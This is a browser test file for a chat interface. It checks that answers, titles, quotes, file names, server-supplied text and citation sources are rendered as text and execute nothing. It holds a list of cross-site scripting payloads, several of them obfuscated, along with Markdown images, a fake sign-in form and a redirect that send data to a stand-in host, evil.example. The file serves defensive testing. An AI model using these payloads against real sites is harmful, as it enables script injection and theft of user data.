"""Whatever stands in answers, titles, quotes and names is shown as text, and executes nothing."""

from __future__ import annotations

import json

import pytest
from playwright.sync_api import expect
from tests.browser.panel import messages

MARK = "window.executed"
PAYLOADS = {
    "script": "<script>window.executed = 1</script>",
    "script in capitals": "<ScRiPt>window.executed = 1</sCrIpT>",
    "image": '<img src=x onerror="window.executed = 1">',
    "image in Markdown": "![x](https://evil.example/collect?secret=1)",
    "image with a handler": '![x" onerror="window.executed = 1](https://evil.example/x.png)',
    "vector graphics": "<svg onload=window.executed=1><script>window.executed=1</script></svg>",
    "vector graphics in a link": '<svg><a xlink:href="javascript:window.executed=1"><text>go</text></a></svg>',
    "frame": '<iframe srcdoc="<script>parent.executed=1</script>"></iframe>',
    "object": '<object data="javascript:window.executed=1"></object>',
    "details": '<details open ontoggle="window.executed=1">x</details>',
    "style": "<style>@import url(https://evil.example/x.css); *{display:none}</style>",
    "link": "[go](javascript:window.executed=1)",
    "link with a tab": "[go](java\tscript:window.executed=1)",
    "link in entities": "[go](&#106;avascript:window.executed=1)",
    "link to data": "[go](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuZXhlY3V0ZWQ9MTwvc2NyaXB0Pg==)",
    "automatic link": "<javascript:window.executed=1>",
    "reference": "[go][1]\n\n[1]: javascript:window.executed=1",
    "link title": "[go](https://x.example \"' onmouseover='window.executed=1\")",
    "template": "{{constructor.constructor('window.executed=1')()}} ${window.executed=1} <%= 1 %>",
    "code": "```html\n<script>window.executed = 1</script>\n```",
    "language of code": '```"><img src=x onerror=window.executed=1>\nx\n```',
    "formula": "$\\href{javascript:window.executed=1}{x}$ and $\\htmlData{onclick=window.executed=1}{y}$",
    "formula with markup": "$$<img src=x onerror=window.executed=1>$$",
    "mathml": '<math><mtext><img src=x onerror="window.executed=1"></mtext></math>',
    "table": "| a |\n|---|\n| <img src=x onerror=window.executed=1> |",
    "form": '<form action="https://evil.example"><input name=a><button>Sign in</button></form>',
    "base": '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
    "unclosed": "<img src=x onerror=window.executed=1 ",
    "comment": "<!--><img src=x onerror=window.executed=1>-->",
}
DIAGRAM = (
    '```mermaid\ngraph TD\n  A["<img src=x onerror=parent.executed=1>"] --> B\n'
    '  click A href "javascript:parent.executed=1"\n  click B call alert(1)\n```\n'
)
_FORBIDDEN = "script, iframe:not([sandbox='allow-scripts']), object, embed, form[action], base, meta, style, link"


def nothing_happened(panel):
    """No payload has run, and nothing stands in the answers that could run."""
    assert panel.page.evaluate(MARK) is None
    harmful = panel.chat.evaluate(
        """(chat, forbidden) => [...chat.querySelectorAll("*")].filter((one) =>
            one.matches(forbidden) ||
            [...one.attributes].some(({ name, value }) =>
                name.startsWith("on") || name === "srcdoc" || /^\\s*(javascript|data:text)/i.test(value))
        ).map((one) => one.outerHTML.slice(0, 200))""",
        _FORBIDDEN,
    )
    assert harmful == []


@pytest.mark.parametrize("payloads", [list(PAYLOADS)[at::3] for at in range(3)], ids=["one", "two", "three"])
def test_answers_execute_nothing(scripted, told, payloads):
    """Each payload arrives in an answer, in pieces; it is drawn, and every link in it is pressed."""
    scripted.open()
    for name in payloads:
        text = f"Before.\n\n{PAYLOADS[name]}\n\nBehind."
        told.say(*(text[at : at + 7] for at in range(0, len(text), 7)))
        scripted.ask(name)
        for link in scripted.answers.last.get_by_text("go", exact=True).all():
            link.click(modifiers=["Shift"], no_wait_after=True) if not link.evaluate("(one) => one.href") else None
        nothing_happened(scripted)


def test_diagrams_execute_nothing(scripted, told, watch):
    """Labels and clicks of a diagram reach neither page nor reader: the frame it is drawn in may run nothing."""
    watch.allow("inline event handler|script-src-attr")  # what is drawn tries, in the frame, and is refused
    told.say("A diagram:\n\n", DIAGRAM)
    scripted.open().ask("Draw")
    scripted.page.wait_for_timeout(1500)

    nothing_happened(scripted)


def test_the_readers_own_words_execute_nothing(scripted, told):
    """Questions, titles in the header and in the history, drafts: text."""
    payload = PAYLOADS["image"]
    told.say("Well.")
    scripted.open().ask(payload)
    expect(scripted.questions).to_have_text(payload)
    scripted.button("Earlier conversations").click()
    scripted.chat.locator(".row").get_by_role("button", name="Rename").click()
    scripted.chat.get_by_label("Rename", exact=True).fill(PAYLOADS["vector graphics"])
    scripted.chat.get_by_label("Rename", exact=True).press("Enter")
    expect(scripted.chat.locator(".row-title")).to_have_text(PAYLOADS["vector graphics"])
    scripted.chat.get_by_role("searchbox").fill("onerror")
    expect(scripted.chat.locator(".row")).to_have_count(1)
    scripted.button("Back to the conversation").click()

    expect(scripted.chat.locator(".header-title")).to_have_text(PAYLOADS["vector graphics"])
    nothing_happened(scripted)


def test_selected_text_executes_nothing(scripted, told):
    """Markup that stands on the page as text stays text in the quote, here and after a reload."""
    payload = PAYLOADS["image"]
    scripted.page.evaluate(
        "(text) => { const made = document.createElement('p'); made.textContent = text;"
        " document.querySelector('main').prepend(made); }",
        payload,
    )
    scripted.select("onerror")
    scripted.ask_selection.click()
    expect(scripted.quote).to_have_text(payload)
    told.say("Well.")
    sent = scripted.sent()
    scripted.ask("What is this?")
    assert messages(sent)[0]["params"]["input"]["quoted_text"] == payload
    scripted.page.reload()

    expect(scripted.questions.locator("blockquote")).to_have_text(payload)
    nothing_happened(scripted)


def test_names_of_files_execute_nothing(scripted):
    """A file may be called anything."""
    name = "<img src=x onerror=window.executed=1>.txt"
    scripted.open()
    scripted.chat.locator("input[type=file]").set_input_files(
        [{"name": name, "mimeType": "text/plain", "buffer": b"Bees."}]
    )
    expect(scripted.chat.locator(".pick-name")).to_have_text(name)
    expect(scripted.chat.locator("progress")).to_have_count(0)

    nothing_happened(scripted)


def test_what_the_server_offers_executes_nothing(scripted):
    """Greeting, starters, disclaimer and the names of places are text, whoever wrote them."""
    payload = PAYLOADS["image"]
    offer = {
        "title": payload, "greeting": payload, "disclaimer": f"{payload} [go](javascript:window.executed=1)",
        "prompts": [{"label": payload, "prompt": payload}], "modes": True,
    }  # fmt: skip
    place = {"id": "1", "title": payload, "group": payload, "icon": "book-open", "interactive": True, "data": {}}
    widget = {"type": "Card", "children": [{"type": "Text", "value": payload}, {"type": "Markdown", "value": payload}]}
    page = scripted.page
    page.route("**/chatkit/config", lambda route: route.fulfill(json=offer))
    page.route("**/chatkit/entities?**", lambda route: route.fulfill(json={"entities": [place]}))
    page.route("**/preview", lambda route: route.fulfill(json={"preview": widget}))
    scripted.visit("/").open()
    expect(scripted.chat.locator(".greeting")).to_have_text(payload)
    expect(scripted.chat.locator(".prompt")).to_have_text(payload)
    scripted.composer.press_sequentially("@")
    expect(scripted.chat.get_by_role("option")).to_contain_text(payload)
    page.wait_for_timeout(600)

    assert page.evaluate(MARK) is None
    assert scripted.chat.locator("img[onerror], [href^=javascript]").count() == 0


def test_the_source_of_an_answer_executes_nothing(scripted, told):
    """Titles, quotes and addresses of citations are text; an address that is no address is no link."""
    payload = PAYLOADS["image"]

    def poisoned(route):
        answer = route.fetch()
        text = answer.text()
        source = {
            "type": "url", "url": "javascript:window.executed=1", "title": payload, "description": payload,
            "group": payload, "attribution": payload,
        }  # fmt: skip
        annotation = {"type": "annotation", "index": 5, "source": source}
        text = text.replace('"annotations":[]', f'"annotations":[{json.dumps(annotation)}]')
        route.fulfill(response=answer, body=text)

    told.say("An answer.")
    scripted.open().page.route("**/chatkit", poisoned)
    scripted.ask("Anything")
    expect(scripted.sources).to_contain_text(payload)
    scripted.markers.first.click()
    scripted.page.keyboard.press("Escape")
    scripted.sources.get_by_text(payload).first.click()

    nothing_happened(scripted)


@pytest.mark.parametrize(
    "violation",
    [
        "document.body.append(Object.assign(document.createElement('img'), {src: 'https://evil.example/x.png'}))",
        "document.body.innerHTML = '<b>x</b>'",
        "{ const s = document.createElement('script'); s.textContent = '1'; document.body.append(s) }",
        "setTimeout('1')",
        "console.error('x')",
        "console.warn('x')",
        "setTimeout(() => { throw new Error('x') })",
        "setTimeout(() => alert(1))",
    ],
    ids=["elsewhere", "trusted types", "inline script", "eval", "error", "warning", "uncaught", "dialog"],
)
def test_the_watch_sees_what_it_watches_for(book, watch, violation):
    """Negative control: each thing that must not happen is noticed when it does."""
    # Scripts added by the test's own tool are beyond the policy; those that the page's own timers run are not.
    book.page.evaluate(f"() => new Promise((done) => setTimeout(() => {{ try {{ {violation} }} catch {{}} done() }}))")
    book.page.wait_for_timeout(300)

    assert watch.amiss
    watch.forgive()
